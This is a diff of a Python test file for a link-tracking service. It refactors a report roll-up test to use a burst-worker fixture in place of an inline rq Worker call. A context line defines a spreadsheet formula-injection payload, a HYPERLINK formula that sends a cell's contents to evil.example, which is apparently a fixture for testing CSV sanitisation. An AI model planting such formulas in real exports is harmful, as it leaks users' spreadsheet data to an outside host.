@@ -13,10 +13,8 @@ from urllib.parse import parse_qs, urlsplit
 
 import pytest
 import requests
-from rq import Worker
-from rq.serializers import JSONSerializer
 
-from tracker import csvsafe, keys, queues
+from tracker import csvsafe, keys
 
 FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Claim your prize")'
 TOKEN = re.compile(r'name="csrf_token" value="([^"]+)"')
@@ -232,7 +230,7 @@ def test_dashboard_sign_ins_share_the_limit_with_the_api(make_server_with, new_b
 
 
 # -- the roll-up's result -------------------------------------------------------------------
-def test_the_rollup_result_counts_the_events_it_read(api, server, visitor, r):
+def test_the_rollup_result_counts_the_events_it_read(api, server, visitor, burst_worker):
     link = api.link()
     tids = []
     for _ in range(3):
@@ -243,7 +241,7 @@ def test_the_rollup_result_counts_the_events_it_read(api, server, visitor, r):
 
     def rollup() -> dict[str, Any]:
         job_id = api.post("/reports/refresh").json()["job_id"]
-        Worker(list(queues.ALL), connection=r, serializer=JSONSerializer).work(burst=True)
+        burst_worker()
         return api.get(f"/reports/jobs/{job_id}").json()["result"]
 
     first = rollup()
